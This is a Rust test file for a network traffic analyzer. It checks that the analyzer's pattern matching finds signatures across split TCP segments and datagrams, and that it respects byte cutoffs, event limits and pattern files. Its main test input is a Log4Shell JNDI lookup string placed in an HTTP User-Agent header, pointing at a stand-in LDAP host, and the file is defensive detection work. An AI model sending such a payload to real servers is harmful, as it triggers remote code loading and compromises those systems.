//! Patterns in streams.

use std::fs;

use tidewire_analyzers::{MatchSettings, Settings};
use tidewire_events::{Direction, Event, Severity};

use crate::rig::{ACK, Host, Made, addresses, kinds, number, text};

const CLIENT: (Host, u16) = ([192, 0, 2, 1], 4000);
const SERVER: (Host, u16) = ([198, 51, 100, 1], 80);

fn settings(change: impl FnOnce(&mut MatchSettings)) -> Settings {
    let mut settings = Settings::default();
    change(&mut settings.matching);
    settings
}

fn of_pieces(pieces: &[&[u8]], settings: &Settings) -> Vec<Event> {
    let mut made = Made::new();
    made.connection(CLIENT, SERVER, pieces);
    made.analyzed(settings, 1)
}

#[test]
fn a_pattern_is_found_wherever_it_is_cut() {
    let text_ = b"GET / HTTP/1.1\r\nUser-Agent: ${jNdI:LdAp://203.0.113.1/a}\r\n\r\n";
    let begin = text_.windows(2).position(|two| two == b"${").unwrap();
    for cut in 1..text_.len() {
        let (first, second) = text_.split_at(cut);
        let events = of_pieces(&[first, second], &Settings::default());
        assert_eq!(kinds(&events), ["match.log4shell"], "cut at {cut}");
        let event = &events[0];
        let place = event.place.unwrap();
        assert_eq!((place.direction, place.offset), (Direction::ClientToServer, begin as u64), "cut at {cut}");
        assert_eq!((event.severity, event.stream), (Severity::High, Some(1)));
        assert_eq!(addresses(event).map(|address| address.octets()), [CLIENT.0, SERVER.0]);
        assert_eq!((text(event, "pattern"), number(event, "length")), ("log4shell", 12));
        let excerpt = event.excerpt.as_ref().unwrap();
        assert!(excerpt.len() <= 12 + 64, "{excerpt:?}");
        assert!(
            excerpt.to_ascii_lowercase().windows(12).any(|part| part == b"${jndi:ldap:"),
            "cut at {cut}: {excerpt:?}"
        );
    }
    let whole = of_pieces(&[text_], &settings(|matching| matching.excerpt_bytes = 5));
    assert_eq!(whole[0].excerpt.as_deref().unwrap(), &text_[begin - 5..begin + 17]);
}

#[test]
fn every_built_in_pattern_is_found() {
    let list =
        tidewire_patterns::parse_file(include_bytes!("../../patterns/builtin.txt"), tidewire_patterns::Syntax::Text);
    for pattern in list.unwrap() {
        let events = of_pieces(&[b"some bytes ", &pattern.bytes, b" and others"], &Settings::default());
        let expected = format!("match.{}", pattern.id.unwrap());
        assert!(kinds(&events).contains(&expected.as_str()), "{expected}: {:?}", kinds(&events));
    }
}

#[test]
fn datagrams_are_searched_one_by_one() {
    let mut made = Made::new();
    made.datagram(CLIENT, SERVER, b"${jndi:").datagram(CLIENT, SERVER, b"ldap://x").datagram(
        CLIENT,
        SERVER,
        b"-${jndi:ldap:",
    );
    let events = made.found();
    assert_eq!(kinds(&events), ["match.log4shell"]);
    assert_eq!(events[0].place.unwrap().offset, 16);
}

#[test]
fn no_match_reaches_across_missing_bytes() {
    let mut made = Made::new();
    made.handshake(CLIENT, SERVER);
    made.segment(CLIENT, SERVER, ACK, (1001, 5001), b"${jndi:");
    made.segment(CLIENT, SERVER, ACK, (1108, 5001), b"ldap:");
    made.segment(SERVER, CLIENT, ACK, (5001, 1113), b"");
    assert!(!kinds(&made.found()).contains(&"match.log4shell"));
}

#[test]
fn bytes_beyond_the_cutoff_are_not_searched() {
    let filler = [b'.'; 1000];
    let found = |cutoff| {
        let settings = settings(|matching| matching.cutoff_bytes = cutoff);
        kinds(&of_pieces(&[&filler, b"${jndi:ldap:"], &settings)).len()
    };
    assert_eq!([found(1011), found(1012), found(500), found(u64::MAX)], [0, 1, 0, 1]);
}

#[test]
fn a_stream_full_of_matches_is_a_bounded_number_of_events() {
    let piece = b"${jndi:ldap:".repeat(50);
    let events = of_pieces(&[&piece, &piece, &piece], &settings(|matching| matching.stream_events = 7));
    assert_eq!(kinds(&events), ["match.log4shell"; 7]);
    let offsets: Vec<_> = events.iter().map(|event| event.place.unwrap().offset).collect();
    assert_eq!(offsets, [0, 12, 24, 36, 48, 60, 72]);
    let ends = |event: &Event| event.fields.iter().any(|field| field.name == "search_ends");
    assert_eq!(events.iter().map(ends).collect::<Vec<_>>(), [false, false, false, false, false, false, true]);
}

#[test]
fn patterns_come_from_files() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("patterns.txt");
    fs::write(&file, "|# ours\n|id=secret severity=critical nocase|top secret\nplain\n").unwrap();
    let own = settings(|matching| (matching.files, matching.builtin) = (vec![file], false));
    let events = of_pieces(&[b"a Top Secret in plain sight ${jndi:ldap:"], &own);
    let shown: Vec<_> =
        events.iter().map(|event| (event.kind.as_str(), text(event, "pattern"), event.severity.name())).collect();
    assert_eq!(shown, [("match.secret", "secret", "critical"), ("match.pattern", "plain", "medium")]);
    assert_eq!(of_pieces(&[b"${jndi:ldap:"], &settings(|matching| matching.builtin = false)), []);
}
